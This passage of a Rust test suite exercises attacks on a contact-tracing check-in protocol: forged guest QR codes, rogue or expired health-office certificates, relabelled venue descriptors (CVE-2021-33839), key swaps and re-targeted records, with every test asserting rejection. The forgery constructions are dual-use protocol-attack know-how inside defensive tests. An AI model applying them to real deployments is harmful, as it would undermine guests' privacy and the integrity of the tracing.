    assert!(!t.server.check_in(relay_other.record.as_bytes(), NOW.plus_secs(40)).unwrap());
    assert_eq!(t.server, stored, "only the first record is kept");
    assert_eq!(t.server.records[&code.trace_id], first.record.to_bytes());
    assert!(t.server.check_ins_of(other.venue_id()).is_empty());

    // Nothing else was remembered: Bob's code still checks in at the first scanner.
    let bob = t.bob.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    t.scan(&bob.text(), NOW.plus_secs(70));
    assert_eq!(t.server.records.len(), 2);
}

// ------------------------------------------------------------ 4. daily keys

/// A guest QR for `minute` sealed to `key` under `key_id` — what a modified app sends.
fn forged_code(
    rng: &mut ChaCha20Rng,
    key_id: DailyKeyId,
    key: &EncryptionPublicKey,
    minute: UnixMinute,
) -> GuestCheckInQr {
    let (user_id, data_secret, tracing) =
        (UserId::random(rng), DataSecret::random(rng), DailyTracingSecret::random(rng));
    let trace_id = derive::guest_trace_id(&tracing, &user_id, minute);
    let flags = QrFlags { device_type: DeviceType::Android, entry_policy: 0 };
    GuestCheckInQr::seal(rng, key_id, key, flags, minute, trace_id, &user_id, &data_secret).unwrap()
}

#[test]
fn attack_qr_sealed_to_unknown_daily_key() {
    let mut t = Town::new(4);
    let today = DailyKeyId::for_day(NOW.day());
    let server_before = t.server.clone();
    let check_ins_before = t.alice.check_ins();

    // Sealed to a key nobody announced: tomorrow's id, and an arbitrary one.
    for key_id in [DailyKeyId::for_day(NOW.day().plus_days(1)), DailyKeyId(today.0 ^ 0x5a5a)] {
        let key = DailyPrivateKey::generate(&mut t.rng).public_key();
        let qr = forged_code(&mut t.rng, key_id, &key, NOW.minute());
        let err = t.scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap_err();
        assert_eq!(err, ScanError::UnknownDailyKey);
        assert_eq!(err.kind(), "unknown_daily_key");
        // Had it reached a health office, no office holds a key with that id.
        let inner = InnerRecord::Guest(qr);
        assert_eq!(t.office_a.open_inner_record(&inner).unwrap_err(), TracingError::UnknownDailyKey);
        assert_eq!(t.office_b.open_inner_record(&inner).unwrap_err().kind(), "unknown_daily_key");
    }

    // Sealed to a badge key under its id: a scanner ignores badge-key
    // announcements, and the guest app refuses them as daily keys.
    let badge = t.office_a.rotate_badge_key(&mut t.rng, BadgeKeyId(today.0), NOW, &[]).unwrap().announcement;
    let qr = forged_code(&mut t.rng, today, &badge.public_key(), NOW.minute());
    let mut scanner = t.venue.scanner();
    scanner.add_daily_key(badge.clone());
    assert_eq!(scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap_err(), ScanError::UnknownDailyKey);
    let err = t.alice.check_in_code(&mut t.rng, &badge, NOW).unwrap_err();
    assert_eq!(err, ClientError::DailyKeyNotValid);
    assert_eq!(err.kind(), "daily_key_not_valid");

    // Nothing was emitted, stored or remembered; a genuine code still checks in.
    assert_eq!(t.server, server_before);
    assert_eq!(t.alice.check_ins(), check_ins_before);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
}

#[test]
fn attack_qr_sealed_to_expired_daily_key() {
    let mut t = Town::new(5);
    // Office A's daily key of eight days ago: its use period ended yesterday.
    let week_ago = NOW.minus_secs(8 * DAY);
    let old = t.office_a.rotate_daily_key(&mut t.rng, week_ago, &[]).unwrap().announcement;
    assert!(old.validity().not_after <= NOW);
    let server_before = t.server.clone();

    // Neither the app nor the scanner's operator can verify it for use now.
    let err = DailyKeyAnnouncementIn::from_slice(old.as_bytes()).unwrap().verify(&t.cert_a, NOW).unwrap_err();
    assert_eq!(err, VerifyError::Expired);
    assert_eq!(server::daily_key_announcement(old.as_bytes(), &t.cert_a, NOW).unwrap_err().kind(), "expired");
    // The guest app refuses to seal to it (even if handed the verified object).
    let before = t.alice.check_ins();
    assert_eq!(t.alice.check_in_code(&mut t.rng, &old, NOW).unwrap_err(), ClientError::DailyKeyNotValid);
    assert_eq!(t.alice.share_history(&mut t.rng, &old, NOW).unwrap_err().kind(), "daily_key_not_valid");
    assert_eq!(t.alice.check_ins(), before);

    // A scanner that still holds it (added a week ago) refuses codes sealed
    // to it now: the key id is known but the key is not valid now.
    t.scanner.add_daily_key(old.clone());
    let qr = forged_code(&mut t.rng, old.daily_key_id().unwrap(), &old.public_key(), NOW.minute());
    let err = t.scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap_err();
    assert_eq!(err, ScanError::UnknownDailyKey);
    assert_eq!(err.kind(), "unknown_daily_key");
    t.scanner.purge(NOW);
    assert_eq!(t.scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap_err(), ScanError::UnknownDailyKey);
    assert_eq!(t.server, server_before);

    // Today's genuine codes are unaffected.
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
}

#[test]
fn attack_qr_sealed_to_unsigned_daily_key() {
    let mut t = Town::new(6);
    let today = NOW.day();
    let server_before = t.server.clone();
    let b_keys_before = t.office_b.daily_keys().count();

    // The server substitutes its own key in today's announcement, claiming
    // office A issued it: signed by an uncertified key, …
    let rogue = HealthOfficeMasterKeys::generate(&mut t.rng);
    let rogue_daily = DailyPrivateKey::generate(&mut t.rng);
    let period = Validity { not_before: today.start(), not_after: today.plus_days(1).start() };
    let forged = DailyKeyAnnouncement::issue(
        &rogue.signing,
        t.cert_a.id(),
        KeyPurpose::Daily,
        DailyKeyId::for_day(today).0,
        &rogue_daily.public_key(),
        period,
        today.plus_days(28).start(),
    )
    .unwrap();
    // … or office A's genuine announcement with the public key swapped (not covered by A's signature).
    let swapped = splice(t.daily.as_bytes(), &t.daily.public_key().to_bytes(), &rogue_daily.public_key().to_bytes());
    for bytes in [forged.as_bytes(), swapped.as_slice()] {
        let err = DailyKeyAnnouncementIn::from_slice(bytes).unwrap().verify(&t.cert_a, NOW).unwrap_err();
        assert_eq!(err, VerifyError::BadSignature);
        let err = t.server.announcement(bytes, &t.cert_a, NOW).unwrap_err();
        assert_eq!(err, ServerError::Verify(VerifyError::BadSignature));
        assert_eq!(err.kind(), "bad_signature");
        // Office B does not take the key even with a share that opens.
        let share =
            KeyShare::seal_daily(&mut t.rng, DailyKeyId::for_day(today), t.cert_a.id(), &t.cert_b, &rogue_daily)
                .unwrap();
        let err = t.office_b.import_key_share(share.as_bytes(), bytes, &t.cert_a, NOW).unwrap_err();
        assert_eq!(err, KeyError::Verify(VerifyError::BadSignature));
    }
    // Signed as another office that the app then checks against A's certificate.
    let own_id = DailyKeyAnnouncement::issue(
        &rogue.signing,
        HealthOfficeId::random(&mut t.rng),
        KeyPurpose::Daily,
        DailyKeyId::for_day(today).0,
        &rogue_daily.public_key(),
        period,
        today.plus_days(28).start(),
    )
    .unwrap();
    assert_eq!(t.server.announcement(own_id.as_bytes(), &t.cert_a, NOW).unwrap_err().kind(), "wrong_issuer");
    assert_eq!(t.server, server_before);
    assert_eq!(t.office_b.daily_keys().count(), b_keys_before);

    // Without a verified announcement the app has nothing to seal to. A
    // modified app that seals to the rogue key under an id nobody announced
    // is refused by the scanner.
    let unannounced = DailyKeyId(DailyKeyId::for_day(today).0.wrapping_add(7));
    let qr = forged_code(&mut t.rng, unannounced, &rogue_daily.public_key(), NOW.minute());
    assert_eq!(t.scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap_err().kind(), "unknown_daily_key");
    // Under today's id the scanner cannot see which key the inner layer is
    // sealed to (HPKE hides the recipient): it emits a record, but no health
    // office can open it — the guest's own check-in is lost, nothing leaks to
    // an office, and only whoever holds the rogue key could read it if it ever
    // obtained the inner record (the outer layer is the venue's).
    let qr = forged_code(&mut t.rng, DailyKeyId::for_day(today), &rogue_daily.public_key(), NOW.minute());
    let scan = t.scanner.scan(&mut t.rng, &qr.to_base32(), NOW).unwrap();
    let inner = t.venue.open_record(&CheckInRecordIn::from(scan.record)).unwrap();
    assert_eq!(t.office_a.open_inner_record(&inner).unwrap_err(), TracingError::Open(OpenError::DecryptionFailed));
    assert_eq!(t.office_b.open_inner_record(&inner).unwrap_err().kind(), "decryption_failed");
}

// -------------------------------------------------- 5. certificates of health offices

#[test]
fn attack_daily_key_from_uncertified_office() {
    let mut t = Town::new(7);
    let server_before = t.server.clone();
    let (a_daily, a_badge) = (t.office_a.daily_keys().count(), t.office_a.badge_keys().count());

    // Office C is certified by a trust anchor of its own making.
    let rogue_anchor = TrustAnchor::generate(&mut t.rng);
    let (mut office_c, cert_c) = certified_office(&mut t.rng, &rogue_anchor, "Gesundheitsamt Nirgendwo");
    let rotation = office_c.rotate_daily_key(&mut t.rng, NOW, &[]).unwrap();

    // Apps, scanners and the server verify C's certificate against the pinned anchor.
    let err = HealthOfficeCertificateIn::from_slice(cert_c.as_bytes())
        .unwrap()
        .verify(&t.anchor.public_key(), NOW)
        .unwrap_err();
    assert_eq!(err, VerifyError::BadSignature);
    // C's announcement does not verify as A's (nor as B's).
    for cert in [&t.cert_a, &t.cert_b] {
        let err = t.server.announcement(rotation.announcement.as_bytes(), cert, NOW).unwrap_err();
        assert_eq!(err, ServerError::Verify(VerifyError::WrongIssuer));
        assert_eq!(err.kind(), "wrong_issuer");
    }

    // A share sealed to office A of a key announced by an office of that
    // anchor: A re-verifies the issuer's certificate under its own anchor.
    let (rogue, request) = office_keys(&mut t.rng, "Gesundheitsamt Nirgendwo");
    let rogue_cert = rogue_anchor.certify_health_office(&request, certified()).unwrap();
    let rogue_daily = DailyPrivateKey::generate(&mut t.rng);
    let today = NOW.day();
    let announcement = DailyKeyAnnouncement::issue(
        &rogue.signing,
        request.id,
        KeyPurpose::Daily,
        DailyKeyId::for_day(today).0,
        &rogue_daily.public_key(),
        Validity { not_before: today.start(), not_after: today.plus_days(1).start() },
        today.plus_days(28).start(),
    )
    .unwrap();
    let share =
        KeyShare::seal_daily(&mut t.rng, DailyKeyId::for_day(today), request.id, &t.cert_a, &rogue_daily).unwrap();
    let err = t.office_a.import_key_share(share.as_bytes(), announcement.as_bytes(), &rogue_cert, NOW).unwrap_err();
    assert_eq!(err, KeyError::UntrustedCertificate);
    assert_eq!(err.kind(), "untrusted_certificate");

    // Nor does A share its own keys with C.
    let err = t.office_a.rotate_badge_key(&mut t.rng, BadgeKeyId(9), NOW, std::slice::from_ref(&cert_c)).unwrap_err();
    assert_eq!(err, KeyError::UntrustedCertificate);
    // An office without any certificate cannot even rotate.
    let mut uncertified = HealthOffice::generate(&mut t.rng);
    assert_eq!(uncertified.rotate_daily_key(&mut t.rng, NOW, &[]).unwrap_err().kind(), "not_certified");

    assert_eq!(t.server, server_before);
    assert_eq!((t.office_a.daily_keys().count(), t.office_a.badge_keys().count()), (a_daily, a_badge));
}

#[test]
fn attack_daily_key_from_expired_office() {
    let mut t = Town::new(8);
    let server_before = t.server.clone();
    let a_daily = t.office_a.daily_keys().count();
    let today = NOW.day();
    let period = Validity { not_before: today.start(), not_after: today.plus_days(1).start() };

    // Office D's certificate ended ten days ago; D still signs today's key.
    let (keys_d, request) = office_keys(&mut t.rng, "Gesundheitsamt Gestern");
    let expired = Validity { not_before: NOW.minus_secs(60 * DAY), not_after: NOW.minus_secs(10 * DAY) };
    let cert_d = t.anchor.certify_health_office(&request, expired).unwrap();
    let daily_d = DailyPrivateKey::generate(&mut t.rng);
    let announcement = DailyKeyAnnouncement::issue(
        &keys_d.signing,
        request.id,
        KeyPurpose::Daily,
        DailyKeyId::for_day(today).0,
        &daily_d.public_key(),
        period,
        today.plus_days(28).start(),
    )
    .unwrap();
    // The certificate does not verify now …
    let err = HealthOfficeCertificateIn::from_slice(cert_d.as_bytes())
        .unwrap()
        .verify(&t.anchor.public_key(), NOW)
        .unwrap_err();
    assert_eq!(err, VerifyError::Expired);
    // … and a copy verified while it was valid does not carry the announcement.
    let stale = HealthOfficeCertificateIn::from_slice(cert_d.as_bytes())
        .unwrap()
        .verify(&t.anchor.public_key(), NOW.minus_secs(20 * DAY))
        .unwrap();
    let err = DailyKeyAnnouncementIn::from_slice(announcement.as_bytes()).unwrap().verify(&stale, NOW).unwrap_err();
    assert_eq!(err, VerifyError::Expired);
    assert_eq!(t.server.announcement(announcement.as_bytes(), &stale, NOW).unwrap_err().kind(), "expired");
    let share = KeyShare::seal_daily(&mut t.rng, DailyKeyId::for_day(today), request.id, &t.cert_a, &daily_d).unwrap();
    let err = t.office_a.import_key_share(share.as_bytes(), announcement.as_bytes(), &stale, NOW).unwrap_err();
    assert_eq!(err, KeyError::UntrustedCertificate);

    // An office whose certificate is not yet valid, likewise.
    let (_, request_e) = office_keys(&mut t.rng, "Gesundheitsamt Morgen");
    let future = Validity { not_before: NOW.plus_secs(10 * DAY), not_after: NOW.plus_secs(400 * DAY) };
    let cert_e = t.anchor.certify_health_office(&request_e, future).unwrap();
    let err = HealthOfficeCertificateIn::from_slice(cert_e.as_bytes())
        .unwrap()
        .verify(&t.anchor.public_key(), NOW)
        .unwrap_err();
    assert_eq!(err.kind(), "not_yet_valid");

    // An office about to expire cannot announce a key beyond its certificate.
    let (keys_f, request_f) = office_keys(&mut t.rng, "Gesundheitsamt Bald");
    let ending = Validity { not_before: NOW.minus_secs(30 * DAY), not_after: NOW.plus_secs(HOUR) };
    let cert_f = t.anchor.certify_health_office(&request_f, ending).unwrap();
    let beyond = DailyKeyAnnouncement::issue(
        &keys_f.signing,
        request_f.id,
        KeyPurpose::Daily,
        DailyKeyId::for_day(today).0,
        &DailyPrivateKey::generate(&mut t.rng).public_key(),
        period,
        today.plus_days(28).start(),
    )
    .unwrap();
    let err = t.server.announcement(beyond.as_bytes(), &cert_f, NOW).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::InvalidValidity));

    // A health office with an expired certificate cannot rotate; others do
    // not share their keys with it.
    let mut office_g = HealthOffice::generate(&mut t.rng);
    let short = Validity { not_before: NOW.minus_secs(30 * DAY), not_after: NOW.minus_secs(DAY) };
    let cert_g = t.anchor.certify_health_office(&office_g.certificate_request("Gesundheitsamt Alt").unwrap(), short);
    let cert_g = office_g
        .install_certificate(cert_g.unwrap().as_bytes(), &t.anchor.public_key(), NOW.minus_secs(2 * DAY))
        .unwrap()
        .clone();
    let err = office_g.rotate_daily_key(&mut t.rng, NOW, &[]).unwrap_err();
    assert_eq!(err, KeyError::Verify(VerifyError::Expired));
    let rotation =
        t.office_a.rotate_badge_key(&mut t.rng, BadgeKeyId(3), NOW, &[cert_g, stale, t.cert_b.clone()]).unwrap();
    let recipients: Vec<HealthOfficeId> = rotation.shares.iter().map(KeyShare::recipient).collect();
    assert_eq!(recipients, [t.cert_b.id()], "expired offices receive no share");

    assert_eq!(t.server, server_before);
    assert_eq!(t.office_a.daily_keys().count(), a_daily);
}

// ------------------------------------------------------- 6. venue descriptors

/// The venue QR payload of the town's printed QR, and its descriptor bytes.
fn printed(t: &Town) -> (Vec<u8>, Vec<u8>) {
    let qr = VenueQr::from_url(&t.venue_url).unwrap();
    (qr.payload().to_vec(), qr.descriptor().to_bytes())
}

#[test]
fn attack_venue_descriptor_not_signed_by_registrar() {
    let mut t = Town::new(9);
    let server_before = t.server.clone();
    let installed = t.venue.descriptor().cloned();
    let validity = Validity { not_before: NOW.minus_secs(DAY), not_after: NOW.plus_secs(DAY) };

    // Someone with a registrar key of its own signs a descriptor for the venue
    // (or for a venue of its own), claiming the real registrar …
    let rogue = RegistrarKey::generate(&mut t.rng);
    let venue_key = t.venue.public_key();
    let claims_registrar = VenueDescriptor::issue_venue(
        &rogue,
        t.registrar.id(),
        t.venue.venue_id(),
        "Café Luca",
        &venue_key,
        None,
        validity,
    )
    .unwrap();
    let url = VenueQr::new(HOST, &claims_registrar, None).unwrap().to_url();
    let err = Guest::scan_venue_qr(&url, &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, ClientError::VenueRejected(VerifyError::BadSignature));
    assert_eq!(err.kind(), "bad_signature");
    // … or naming its own registrar id.
    let own_id = RegistrarId::random(&mut t.rng);
    let own = VenueDescriptor::issue_venue(&rogue, own_id, t.venue.venue_id(), "Café Luca", &venue_key, None, validity)
        .unwrap();
    let err = Guest::scan_venue_qr(&VenueQr::new(HOST, &own, None).unwrap().to_url(), &t.registrar_cert, NOW);
    assert_eq!(err.unwrap_err(), ClientError::VenueRejected(VerifyError::WrongIssuer));
    // The genuine descriptor with its signature zeroed.
    let (_, genuine) = printed(&t);
    let mut zeroed = genuine.clone();
    let n = zeroed.len();
    zeroed[n - 64..].fill(0);
    let err = Guest::scan_venue_qr(&descriptor_url(&zeroed), &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, ClientError::VenueRejected(VerifyError::BadSignature));

    // A registrar certificate from another trust anchor does not verify
    // against the pinned one, so no app holds it as a verified certificate.
    let rogue_anchor = TrustAnchorKey::generate(&mut t.rng);
    let rogue_cert =
        RegistrarCertificate::issue(&rogue_anchor, own_id, "Registrar", &rogue.public_key(), certified()).unwrap();
    let err = RegistrarCertificateIn::from_slice(rogue_cert.as_bytes())
        .unwrap()
        .verify(&t.anchor.public_key(), NOW)
        .unwrap_err();
    assert_eq!(err, VerifyError::BadSignature);
    let mut scanner_registrar = Registrar::generate(&mut t.rng);
    let err = scanner_registrar.install_certificate(rogue_cert.as_bytes(), &t.anchor.public_key(), NOW).unwrap_err();
    assert_eq!(err.kind(), "bad_signature");

    // The venue owner's software refuses it too, and keeps its descriptor.
    for forged in [claims_registrar.as_bytes(), zeroed.as_slice()] {
        let err = t.venue.install_descriptor(forged, &t.registrar_cert, NOW).unwrap_err();
        assert_eq!(err, VenueError::UntrustedDescriptor(VerifyError::BadSignature));
        assert_eq!(err.kind(), "bad_signature");
    }
    assert_eq!(t.venue.descriptor().cloned(), installed);
    // Nothing was checked in or sent.
    assert!(t.alice.check_ins().is_empty());
    assert_eq!(t.server, server_before);
}

#[test]
fn attack_private_meeting_confusion() {
    let mut t = Town::new(10);
    let (payload, genuine) = printed(&t);
    let parts = parse_cose(&genuine);
    assert_eq!(parts.protected, protected_header(labels::COSE_VENUE_DESCRIPTOR));
    // The payload is [1, kind, venue_id, name, venue_key, table_count, not_before, not_after, signer].
    assert_eq!(&parts.payload[..3], &[0x89, 0x01, 0x00], "version 1, kind 0 (venue)");
    let meeting_type = protected_header(labels::COSE_PRIVATE_MEETING_DESCRIPTOR);
    let mut kind_1 = parts.payload.clone();
    kind_1[2] = 0x01;

    // CVE-2021-33839: the venue owner relabels its registrar-signed venue as a
    // private meeting, so that guests' apps would send their names to it.
    // (a) the content type, (b) the signed kind, (c) both.
    let relabelled = [
        cose(&meeting_type, &parts.payload, &parts.signature),
        cose(&parts.protected, &kind_1, &parts.signature),
        cose(&meeting_type, &kind_1, &parts.signature),
    ];
    // The kind must match the content type; a private meeting has no tables
    // (the venue has 12) and is signed by a host key, not a registrar id.
    let want = [
        DecodeError::InvalidField { field: "kind" },
        DecodeError::InvalidField { field: "kind" },
        DecodeError::InvalidField { field: "table_count" },
    ];
    for (bytes, want) in relabelled.iter().zip(want) {
        assert_eq!(VenueDescriptorIn::from_slice(bytes).unwrap_err(), want);
        let err = Guest::scan_venue_qr(&descriptor_url(bytes), &t.registrar_cert, NOW).unwrap_err();
        assert_eq!(err.kind(), want.kind());
        assert_eq!(err, ClientError::Invalid(want));
    }
    // (d) all of it, with its own host key as signer, keeping the registrar's signature.
    let d = &t.descriptor;
    let host_key = HostSigningKey::generate(&mut t.rng);
    let validity = d.validity();
    let as_meeting = cbor::array(&[
        cbor::uint(1),
        cbor::uint(1),
        cbor::bstr(d.venue_id().as_bytes()),
        cbor::tstr(d.name()),
        cbor::bstr(&d.venue_key().to_bytes()),
        vec![cbor::NULL],
        cbor::uint(validity.not_before.0),
        cbor::uint(validity.not_after.0),
        cbor::bstr(&host_key.public_key().to_bytes()),
    ]);
    let forged = cose(&meeting_type, &as_meeting, &parts.signature);
    let err = Guest::scan_venue_qr(&descriptor_url(&forged), &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, ClientError::VenueRejected(VerifyError::BadSignature));

    // The kinds are distinct types: neither can stand in for the other.
    let venue_in = VenueDescriptorIn::from_slice(&genuine).unwrap();
    assert_eq!(venue_in.verify_private_meeting(NOW).unwrap_err(), VerifyError::WrongKind);
    let meeting_in = VenueDescriptorIn::from_slice(t.host.descriptor().as_bytes()).unwrap();
    assert_eq!(meeting_in.kind(), VenueKind::PrivateMeeting);
    assert_eq!(meeting_in.registrar_id(), None);
    assert_eq!(VerifiedMeeting::new(t.descriptor.clone()).unwrap_err(), ClientError::WrongKind);
    assert_eq!(VerifiedVenue::new(t.host.descriptor().clone(), None).unwrap_err().kind(), "wrong_kind");
    let err = t.venue.install_descriptor(t.host.descriptor().as_bytes(), &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, VenueError::NotAVenueDescriptor);
    // A private meeting has no tables: a table number in its QR is refused.
    let with_table = cbor::array(&[cbor::uint(1), cbor::bstr(t.host.descriptor().as_bytes()), cbor::uint(3)]);
    assert_eq!(
        Guest::scan_venue_qr(&venue_url(&with_table), &t.registrar_cert, NOW).unwrap_err(),
        ClientError::Invalid(DecodeError::InvalidField { field: "table" })
    );

    // The genuine printed QR is a venue: the guest's name never goes to it.
    let ScannedVenue::Venue(venue) = Guest::scan_venue_qr(&venue_url(&payload), &t.registrar_cert, NOW).unwrap() else {
        panic!("a registrar-signed descriptor must scan as a venue");
    };
    let check_in = t.alice.self_check_in(&mut t.rng, &venue, &t.daily, NOW).unwrap();
    let data = AdditionalDataIn::from_slice(check_in.additional_data.unwrap().as_bytes()).unwrap();
    let content = t.venue.open_additional_data(&data).unwrap();
    assert_eq!((content.table, content.guest_name.as_deref()), (Some(7), None));
    // A private meeting scans as one, so the app can say that the name goes to the host.
    let scanned = Guest::scan_venue_qr(&t.meeting_url, &t.registrar_cert, NOW).unwrap();
    let ScannedVenue::PrivateMeeting(meeting) = scanned else { panic!("a self-signed meeting scans as a meeting") };
    assert_eq!(meeting.host_key(), Some(t.host.host_key()));
    let joined = t.bob.check_in_private_meeting(&mut t.rng, &meeting, &t.daily, "Max Musterfrau", NOW).unwrap();
    let stored = StoredCheckIn {
        record: joined.record.to_bytes(),
        additional_data: joined.additional_data.map(|a| a.to_bytes()),
    };
    let guests = t.host.read_guests(&[stored]);
    assert_eq!(guests.len(), 1);
    assert_eq!(guests[0].name.as_deref(), Some("Max Musterfrau"));
}

#[test]
fn attack_venue_descriptor_key_swap() {
    let mut t = Town::new(11);
    let server_before = t.server.clone();
    let installed = t.venue.descriptor().cloned();
    let (payload, genuine) = printed(&t);
    let attacker = VenuePrivateKey::generate(&mut t.rng);
    let real_key = t.venue.public_key().to_bytes();

    // The server (or a sticker over the printed code) swaps the venue key
    // inside the registrar-signed descriptor.
    let swapped = splice(&genuine, &real_key, &attacker.public_key().to_bytes());
    let url = venue_url(&splice(&payload, &real_key, &attacker.public_key().to_bytes()));
    let err = Guest::scan_venue_qr(&url, &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, ClientError::VenueRejected(VerifyError::BadSignature));
    let err = VenueDescriptorIn::from_slice(&swapped).unwrap().verify(&t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err.kind(), "bad_signature");
    let err = t.venue.install_descriptor(&swapped, &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, VenueError::UntrustedDescriptor(VerifyError::BadSignature));

    // A registrar tricked into signing another key for the venue's id: the
    // venue's software notices that the key is not its own and keeps its descriptor.
    let validity = t.descriptor.validity();
    let mistaken = t
        .registrar
        .register_venue(t.venue.venue_id(), "Café Luca", &attacker.public_key(), Some(12), validity)
        .unwrap();
    let err = t.venue.install_descriptor(mistaken.as_bytes(), &t.registrar_cert, NOW).unwrap_err();
    assert_eq!(err, VenueError::KeyMismatch);
    assert_eq!(err.kind(), "key_mismatch");
    assert_eq!(t.venue.descriptor().cloned(), installed);

    // Check-ins are sealed only to the key of the verified descriptor: the
    // swapped-in key opens nothing.
    let ScannedVenue::Venue(venue) = Guest::scan_venue_qr(&t.venue_url, &t.registrar_cert, NOW).unwrap() else {
        panic!("the printed QR is a venue");
    };
    assert_eq!(venue.venue_key().to_bytes(), real_key);
    let check_in = t.alice.self_check_in(&mut t.rng, &venue, &t.daily, NOW).unwrap();
    let record = CheckInRecordIn::from(check_in.record);
    assert_eq!(record.open(&attacker).unwrap_err(), OpenError::DecryptionFailed);
    assert!(t.venue.open_record(&record).is_ok());
    assert_eq!(t.server, server_before);
}

#[test]
fn attack_self_checkin_with_substituted_venue_key() {
    let mut t = Town::new(12);
    let (payload, genuine) = printed(&t);
    let server_key = VenuePrivateKey::generate(&mut t.rng);
    let real_key = t.venue.public_key().to_bytes();
    let check_ins_before = t.alice.check_ins();

    // luca 2021 fetched the venue key for a self check-in from the server
    // unauthenticated. Here the key comes only from the signed descriptor:
    // a substituted key (in the payload the server serves, or in the whole
    // descriptor, signed by a registrar key the server made up) fails.
    let substituted = venue_url(&splice(&payload, &real_key, &server_key.public_key().to_bytes()));
    assert_eq!(
        Guest::scan_venue_qr(&substituted, &t.registrar_cert, NOW).unwrap_err(),
        ClientError::VenueRejected(VerifyError::BadSignature)
    );
    let made_up = RegistrarKey::generate(&mut t.rng);
    let parsed = VenueDescriptorIn::from_slice(&genuine).unwrap();
    let resigned = VenueDescriptor::issue_venue(
        &made_up,
        t.registrar.id(),
        parsed.venue_id(),
        parsed.name(),
        &server_key.public_key(),
        parsed.table_count(),
        parsed.validity(),
    )
    .unwrap();
    let url = VenueQr::new(HOST, &resigned, Some(7)).unwrap().to_url();
    assert_eq!(
        Guest::scan_venue_qr(&url, &t.registrar_cert, NOW).unwrap_err(),
        ClientError::VenueRejected(VerifyError::BadSignature)
    );
    assert_eq!(t.alice.check_ins(), check_ins_before, "no check-in was made");

    // The genuine self check-in: record and table number are sealed to the
    // descriptor's key; the server's key opens neither, the venue opens both.
    let ScannedVenue::Venue(venue) = Guest::scan_venue_qr(&t.venue_url, &t.registrar_cert, NOW).unwrap() else {
        panic!("the printed QR is a venue");
    };
    let check_in = t.alice.self_check_in(&mut t.rng, &venue, &t.daily, NOW).unwrap();
    assert!(t.server.check_in(check_in.record.as_bytes(), NOW).unwrap());
    let additional = check_in.additional_data.unwrap();
    t.server.additional_data(additional.as_bytes(), check_in.trace_id).unwrap();
    let record = t.server.record(check_in.trace_id);
    let data = AdditionalDataIn::from_slice(additional.as_bytes()).unwrap();
    assert_eq!(record.open(&server_key).unwrap_err(), OpenError::DecryptionFailed);
    assert_eq!(data.open(&server_key).unwrap_err().kind(), "decryption_failed");
    assert!(t.venue.open_record(&record).is_ok());
    assert_eq!(t.venue.open_additional_data(&data).unwrap().table, Some(7));
}

// ------------------------------------------------- 7. check-in records re-targeted

#[test]
fn attack_checkin_record_retargeted() {
    let mut t = Town::new(13);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let scan = t.scan(&code.text(), NOW);
    let bytes = scan.record.to_bytes();
    let minute = NOW.minute();

    // A second venue, registered like the first.
    let mut other = Venue::generate(&mut t.rng);
    let validity = Validity { not_before: NOW.minus_secs(DAY), not_after: NOW.plus_secs(DAY) };
    let descriptor = t.registrar.register_venue(other.venue_id(), "Bar Relais", &other.public_key(), None, validity);
    other.install_descriptor(descriptor.unwrap().as_bytes(), &t.registrar_cert, NOW).unwrap();

    // The server edits the envelope of the stored record: another venue,
    // another minute, another trace id, another source.
    let venue_id = t.venue.venue_id();
    let other_trace = TraceId::random(&mut t.rng);
    let minute_field = [vec![0x1a], minute.to_be_bytes().to_vec()].concat();
    let later_field = [vec![0x1a], UnixMinute(minute.0 + 1).to_be_bytes().to_vec()].concat();
    let source_at = find(&bytes, &minute_field).unwrap() + 5;
    assert_eq!(bytes[source_at], 0x00, "source guest");
    let mut badge_source = bytes.clone();
    badge_source[source_at] = 0x01;
    let to_other_venue = splice(&bytes, venue_id.as_bytes(), other.venue_id().as_bytes());
    let edits = [
        splice(&bytes, &minute_field, &later_field),
        splice(&bytes, code.trace_id.as_bytes(), other_trace.as_bytes()),
        badge_source,
    ];
    for edited in &edits {
        let record = CheckInRecordIn::from_slice(edited).unwrap();
        assert_eq!(t.venue.open_record(&record).unwrap_err(), OpenError::DecryptionFailed);
    }
    // Moved to the other venue: that venue cannot open it, and the first
    // venue no longer accepts it as its own.
    let moved = CheckInRecordIn::from_slice(&to_other_venue).unwrap();
    assert_eq!(other.open_record(&moved).unwrap_err(), OpenError::DecryptionFailed);
    assert_eq!(t.venue.open_record(&moved).unwrap_err(), OpenError::BindingMismatch { field: "venue_id" });

    // A rogue scanner re-seals the captured inner record (it holds the venue's
    // public key) under another trace id or minute: the inner QR repeats both.
    let inner = InnerRecord::Guest(code.qr.clone());
    let venue_key = t.venue.public_key();
    let resealed = [
        (other_trace, minute, OpenError::BindingMismatch { field: "trace_id" }),
        (code.trace_id, UnixMinute(minute.0 + 1), OpenError::BindingMismatch { field: "minute" }),
    ];
    for (trace_id, m, want) in resealed {
        let err = CheckInRecord::seal(&mut t.rng, venue_id, &venue_key, &inner, trace_id, m).unwrap_err();
        assert_eq!(err.kind(), "invalid_field", "the honest sealer refuses");
        let record = CheckInRecord::seal_unchecked(
            &mut t.rng,
            venue_id,
            &venue_key,
            &inner.to_bytes(),
            CheckInSource::Guest,
            trace_id,
            m,
        )
        .unwrap();
        assert_eq!(t.venue.open_record(&CheckInRecordIn::from(record)).unwrap_err(), want);
    }

    // On consent, the venue leaves every re-targeted record out and office A
    // decrypts nothing from them.
    let request = t.request(hour(), NOW.plus_secs(HOUR));
    let stored: Vec<StoredCheckIn> =
        edits.iter().map(|e| StoredCheckIn { record: e.clone(), additional_data: None }).collect();
    let answer = t
        .venue
